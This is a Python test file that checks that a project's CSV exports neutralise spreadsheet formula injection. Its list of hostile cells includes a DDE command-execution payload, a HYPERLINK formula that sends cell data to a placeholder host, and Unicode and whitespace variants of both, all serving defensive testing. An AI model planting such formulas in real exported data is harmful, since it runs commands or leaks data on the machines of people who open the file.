"""Every table that leaves the house as CSV: no cell of it can run in a spreadsheet, whatever someone is called or wrote."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

import naast
from naast.audit import exporting
from naast.network.presenters import maps as network_maps
from naast.sources.presenters import maps
from tests.security import tally

HOSTILE = (
    "=1+1", "+31 6", "-1", "@SUM(A1)", "=HYPERLINK(\"http://elders.invalid?\"&A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1",
    " =1", "\u00a0=1", "\ufeff=1", "\x00=1", "\u200b=1", "＝1", "＠SUM(A1)", "   +1",
)  # fmt: skip
UNSEEN = " \t\r\n\x00\ufeff\u00a0\u200b"
ROOT = Path(naast.__file__).parent
# Modules that write CSV, with how each makes a cell harmless; or why nobody opens what it writes.
WRITERS: dict[str, Callable[[str], str] | str] = {
    "audit/exporting.py": exporting.harmless,
    "engine/network/exporting.py": network_maps.harmless,
    "visits/views/numbers.py": "words of our own and numbers",
    "sources/presenters/maps.py": maps.no_formula,
    "sources/actions/matching.py": "read by our own engine in the same breath, and never kept",
    "config/linking.py": "ids of lists that someone gave to the command, a number, and words of our own",
}


def test_every_module_that_writes_a_table_is_known() -> None:
    found = {
        str(file.relative_to(ROOT))
        for file in ROOT.rglob("*.py")
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8")))
        if isinstance(node, ast.Attribute)
        and node.attr in ("writer", "DictWriter")
        and ast.unparse(node.value) == "csv"
    }
    assert found == set(WRITERS), "say in WRITERS how a cell of this table is made harmless"


@pytest.mark.parametrize("module", [name for name, how in WRITERS.items() if callable(how)])
@pytest.mark.parametrize("cell", HOSTILE)
def test_no_cell_of_a_table_runs(module: str, cell: str) -> None:
    harmless = WRITERS[module]
    assert callable(harmless)
    made = io.StringIO()
    csv.writer(made, delimiter=";").writerow([harmless(cell), "gewoon"])
    (row,) = csv.reader(io.StringIO(made.getvalue(), newline=""), delimiter=";")
    assert row[0].lstrip(UNSEEN).startswith("'")
    assert row[1] == harmless("gewoon") == "gewoon"
    tally.attack("formula in a table for a spreadsheet")
